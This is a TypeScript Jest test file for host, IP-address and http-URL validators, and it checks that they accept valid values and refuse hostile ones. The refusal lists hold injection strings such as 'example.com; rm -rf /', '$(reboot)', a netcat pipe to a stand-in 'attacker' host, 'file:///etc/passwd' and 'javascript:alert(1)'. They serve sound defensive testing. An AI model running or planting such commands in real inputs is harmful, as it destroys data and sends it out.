import 'reflect-metadata';
import { validateSync } from 'class-validator';
import { isHttpUrl, isIpAddress, IsNetworkHost, isNetworkHost } from './network-address';
import { SchemaValidator } from './schema-validator';

class HostHolder {
  @IsNetworkHost()
  host!: string;
}

const SHELL_TEXT = [
  'example.com; rm -rf /',
  'example.com && reboot',
  '$(reboot)',
  '`reboot`',
  'example.com | nc attacker 1',
  'example.com > /etc/passwd',
  "example.com' or '1",
  'example.com\nreboot',
  'example .com',
  ' example.com',
  '-f',
  '--flood',
  'example.com/path',
  'user@example.com',
  'fe80::1%eth0',
  'exa*mple.com',
  'bücher.de',
  '',
];

describe('network host rule', () => {
  const schema = new SchemaValidator(HostHolder);
  const byClassValidator = (host: unknown) =>
    validateSync(Object.assign(new HostHolder(), { host })).length === 0;
  const bySchema = (host: unknown) => 'value' in schema.check({ host });

  it.each([
    'example.com',
    'example.com.',
    'router',
    'nas-01.lan',
    '_sip._tcp.example.com',
    'xn--bcher-kva.de',
    '192.0.2.1',
    '10.0.0.254',
    '2001:db8::1',
    '::1',
    '::ffff:192.0.2.1',
  ])('accepts %p with class-validator and with the JSON Schema alike', (host) => {
    expect(isNetworkHost(host)).toBe(true);
    expect(byClassValidator(host)).toBe(true);
    expect(bySchema(host)).toBe(true);
  });

  it.each([...SHELL_TEXT, '999.1.1.1', '1.2.3', 'a'.repeat(254), 'a.-b.com', `${'a'.repeat(64)}.com`])(
    'refuses %p with class-validator and with the JSON Schema alike',
    (host) => {
      expect(isNetworkHost(host)).toBe(false);
      expect(byClassValidator(host)).toBe(false);
      expect(bySchema(host)).toBe(false);
    },
  );

  it.each([42, null, ['example.com'], { host: 'example.com' }])('refuses %p, which is no string', (host) => {
    expect(byClassValidator(host)).toBe(false);
    expect(bySchema(host)).toBe(false);
  });

  it('names the field and the rule in the schema error', () => {
    expect(schema.check({ host: 'a;b' })).toEqual({
      errors: [{ field: 'host', message: 'host must match format "network-host"' }],
    });
  });
});

describe('IP address rule', () => {
  it.each(['192.0.2.53', '2001:4860:4860::8888'])('accepts %p', (address) => {
    expect(isIpAddress(address)).toBe(true);
  });

  it.each(['dns.example.com', '192.0.2.256', 'fe80::1%eth0', '1.1.1.1; reboot', ''])(
    'refuses %p',
    (address) => {
      expect(isIpAddress(address)).toBe(false);
    },
  );
});

describe('http URL rule', () => {
  it.each([
    'http://example.com',
    'https://example.com/',
    'https://example.com:8443/health?full=1&x=%20y#top',
    'http://192.0.2.1/status',
    'http://[2001:db8::1]:8080/',
    'HTTPS://EXAMPLE.COM/',
    'http://router/login',
  ])('accepts %p', (url) => {
    expect(isHttpUrl(url)).toBe(true);
  });

  it.each([
    'ftp://example.com/file',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'example.com',
    '//example.com',
    'http://',
    'http:///path',
    'http://user:secret@example.com/',
    'http://example.com@attacker.example/',
    'http://example.com/ $(reboot)',
    'http://example.com/`reboot`',
    'http://example.com/"quoted"',
    'http://example.com/\\path',
    'http://exa mple.com/',
    'http://1.2.3/',
    'http://-f/',
    'http://example.com:99999/',
    'http://bücher.de/',
    `http://example.com/${'a'.repeat(2048)}`,
  ])('refuses %p', (url) => {
    expect(isHttpUrl(url)).toBe(false);
  });
});
